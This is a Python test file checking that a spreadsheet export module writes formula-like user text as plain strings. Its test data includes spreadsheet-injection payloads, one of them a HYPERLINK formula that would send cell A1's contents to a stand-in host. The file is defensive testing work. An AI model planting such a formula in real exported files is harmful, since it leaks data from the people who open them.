"""Exports write people's text as text: never a live formula, never a failed download."""

import io

from openpyxl import Workbook, load_workbook

from yingshang import spreadsheets

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")',
    "+86 138 0000 0000",
    "-1+2",
    "@SUM(A1:A2)",
    "投诉\x1b[31m内容\x00",
]


def _read(book) -> list:
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    ws = load_workbook(buffer).active
    return [(c.value, c.data_type) for c in ws[2]]


def test_hostile_text_is_exported_as_text():
    cells = _read(spreadsheets.workbook("导出", ["a", "b", "c", "d", "e"], [HOSTILE]))
    assert [v for v, _t in cells] == [*HOSTILE[:4], "投诉[31m内容"]
    assert {t for _v, t in cells} == {"s"}


def test_rows_appended_to_an_ordinary_sheet_stay_text_too():
    book = Workbook()
    ws = book.active
    ws.append(["标题"])
    spreadsheets.append_row(ws, [HOSTILE[0], 12, None])
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    row = load_workbook(buffer).active[2]
    assert (row[0].value, row[0].data_type, row[1].value) == (HOSTILE[0], "s", 12)
